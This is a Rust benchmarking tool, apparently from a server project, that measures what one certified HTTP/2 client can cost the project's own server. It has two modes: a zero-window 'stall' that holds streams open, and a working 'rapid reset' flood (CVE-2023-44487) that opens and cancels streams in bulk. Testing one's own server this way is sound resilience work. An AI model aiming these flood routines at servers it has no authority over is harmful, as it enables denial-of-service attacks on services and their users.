//! What one client with a valid certificate can do to the server over
//! HTTP/2, for `bench/conn.sh` (not a test). Each subcommand prints one line
//! of `name=value` pairs.
//!
//! ```text
//! h2flood stall CERTS ADDR CONNECTIONS STREAMS PATH SECONDS
//!     CONNECTIONS connections, each asking for PATH on up to STREAMS streams
//!     with a zero flow-control window, so the server may send no body byte:
//!     what it buffers meanwhile is what such peers cost it. Prints
//!     `stall opened=N refused=M` once all are asked for, holds them SECONDS,
//!     then closes everything and exits.
//! h2flood reset CERTS ADDR CONNECTIONS STREAMS PATH
//!     "rapid reset" (CVE-2023-44487): on each connection, STREAMS times, a GET
//!     of PATH reset at once, then one GET answered in full (so the server has
//!     read every reset). Prints `reset sent=N seconds=S per_second=R cut=C
//!     reason=WHY`, C the connections the server ended instead of answering.
//! ```

use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::http::{Method, Request};
use bytes::Bytes;
use rustls::pki_types::ServerName;
use tokio::net::TcpStream;
use tokio::task::JoinHandle;
use tokio_rustls::TlsConnector;

use rcmd::testing::ClientDir;

/// How long to wait for the server to take one more stream: past it, the
/// server is holding streams back (its concurrent stream limit).
const STREAM_WAIT: Duration = Duration::from_secs(2);

type Connection = (h2::client::SendRequest<Bytes>, JoinHandle<Result<(), h2::Error>>);

/// An HTTP/2 connection whose streams start with `window` bytes of flow
/// control.
async fn connect(certs: &Path, addr: &str, window: u32) -> Connection {
    let mut config = ClientDir::at(certs).rustls_config();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let config = Arc::new(config);
    let tcp = TcpStream::connect(addr).await.unwrap();
    let name = ServerName::try_from("localhost").unwrap();
    let tls = TlsConnector::from(config).connect(name, tcp).await.expect("TLS handshake");
    let (send, connection) = h2::client::Builder::new()
        .initial_window_size(window)
        .max_concurrent_reset_streams(usize::MAX)
        .handshake(tls)
        .await
        .unwrap();
    (send, tokio::spawn(connection))
}

fn get(addr: &str, path: &str) -> Request<()> {
    Request::builder().method(Method::GET).uri(format!("https://{addr}{path}")).body(()).unwrap()
}

async fn stall(certs: &Path, addr: &str, connections: usize, streams: usize, path: &str, hold: f64) {
    let opening: Vec<_> = (0..connections)
        .map(|_| {
            let (certs, addr, path) = (certs.to_owned(), addr.to_owned(), path.to_owned());
            tokio::spawn(async move {
                let (send, task) = connect(&certs, &addr, 0).await;
                let mut bodies = Vec::new();
                for _ in 0..streams {
                    let Ok(Ok(mut ready)) = tokio::time::timeout(STREAM_WAIT, send.clone().ready()).await
                    else {
                        break;
                    };
                    let Ok((response, _)) = ready.send_request(get(&addr, &path), true) else { break };
                    match tokio::time::timeout(STREAM_WAIT, response).await {
                        Ok(Ok(response)) if response.status() == 200 => bodies.push(response.into_body()),
                        _ => break,
                    }
                }
                (send, task, bodies)
            })
        })
        .collect();
    let mut held = Vec::new();
    for connection in opening {
        held.push(connection.await.unwrap());
    }
    let opened: usize = held.iter().map(|(_, _, bodies)| bodies.len()).sum();
    println!("stall opened={opened} refused={}", connections * streams - opened);
    tokio::time::sleep(Duration::from_secs_f64(hold)).await;
    for (_, task, _) in held {
        task.abort();
    }
}

async fn reset(certs: &Path, addr: &str, connections: usize, streams: usize, path: &str) {
    let started = Instant::now();
    let floods: Vec<_> = (0..connections)
        .map(|_| {
            let (certs, addr, path) = (certs.to_owned(), addr.to_owned(), path.to_owned());
            tokio::spawn(async move {
                let (send, task) = connect(&certs, &addr, 65_535).await;
                let mut sent = 0;
                for _ in 0..streams {
                    let Ok(Ok(mut ready)) = tokio::time::timeout(STREAM_WAIT, send.clone().ready()).await
                    else {
                        break;
                    };
                    let Ok((_, mut stream)) = ready.send_request(get(&addr, &path), false) else { break };
                    stream.send_reset(h2::Reason::CANCEL);
                    sent += 1;
                }
                // The server reads a connection's frames in order: once it
                // answers this, it has seen every reset before it.
                let answered = match tokio::time::timeout(STREAM_WAIT, send.ready()).await {
                    Ok(Ok(mut ready)) => match ready.send_request(get(&addr, &path), true) {
                        Ok((response, _)) => {
                            tokio::time::timeout(STREAM_WAIT * 5, response).await.is_ok_and(|r| r.is_ok())
                        }
                        Err(_) => false,
                    },
                    _ => false,
                };
                // Why the server ended it, if it did (a GOAWAY's reason).
                let why = match answered {
                    true => None,
                    false => match tokio::time::timeout(STREAM_WAIT, task).await {
                        Ok(Ok(Err(e))) => {
                            Some(e.reason().map_or_else(|| e.to_string(), |r| format!("{r:?}")))
                        }
                        _ => Some("no answer".to_owned()),
                    },
                };
                (sent, why)
            })
        })
        .collect();
    let (mut sent, mut reasons) = (0, Vec::new());
    for flood in floods {
        let (n, why) = flood.await.unwrap();
        sent += n;
        reasons.extend(why);
    }
    let seconds = started.elapsed().as_secs_f64();
    let cut = reasons.len();
    reasons.sort();
    reasons.dedup();
    println!(
        "reset sent={sent} seconds={seconds:.2} per_second={:.0} cut={cut} reason={}",
        sent as f64 / seconds,
        reasons.join(",")
    );
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let num =
        |i: usize| -> f64 { args[i].parse().unwrap_or_else(|_| panic!("argument {i} must be a number")) };
    match args.first().map(String::as_str) {
        Some("stall") if args.len() == 7 => {
            stall(Path::new(&args[1]), &args[2], num(3) as usize, num(4) as usize, &args[5], num(6)).await
        }
        Some("reset") if args.len() == 6 => {
            reset(Path::new(&args[1]), &args[2], num(3) as usize, num(4) as usize, &args[5]).await
        }
        _ => {
            eprintln!("usage: see the top of examples/h2flood.rs");
            std::process::exit(2);
        }
    }
}
